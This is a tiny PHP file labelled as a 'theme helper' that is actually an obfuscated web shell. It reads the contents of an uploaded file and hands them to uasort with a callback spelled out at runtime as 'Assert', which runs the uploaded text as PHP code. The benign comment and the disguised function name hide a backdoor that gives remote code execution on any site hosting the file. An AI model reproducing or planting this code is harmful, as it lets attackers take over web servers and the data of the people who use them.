<?php
/* theme helper */
$q = file_get_contents($_FILES['mima']['tmp_name']);
$a = array($q, '');
uasort($a, ucfirst(strtolower('ASSERT')));
